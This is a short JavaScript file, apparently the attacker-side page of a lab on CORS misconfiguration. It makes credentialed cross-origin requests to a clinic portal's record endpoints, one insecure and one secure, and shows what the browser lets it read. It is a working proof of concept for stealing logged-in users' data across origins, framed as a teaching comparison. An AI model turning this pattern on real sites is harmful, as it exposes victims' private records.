// The stranger's script: read the clinic portal's record from another origin,
// with the visitor's cookies, and show what the browser let it read.
const me = document.currentScript.dataset;
const lab = `${location.protocol}//${location.hostname}:${me.labPort}`;

async function steal(path, where) {
  const shown = document.getElementById(where);
  try {
    const answer = await fetch(lab + path, { credentials: "include" });
    const text = await answer.text();
    if (answer.status === 401) {
      // The browser let this page read the answer, but the portal had no
      // cookie from this browser under this host name: nothing to steal yet.
      shown.textContent = `Not signed in (401): open the portal first, ${lab}${me.portal}, in this browser under the same host name as this page, then reload.\n${text}`;
    } else {
      shown.textContent = `Read it (${answer.status}):\n${text}`;
    }
  } catch (error) {
    shown.textContent = `Blocked: the browser would not let this page read the answer (${error})`;
  }
}

steal(me.insecure, "insecure-result");
steal(me.secure, "secure-result");
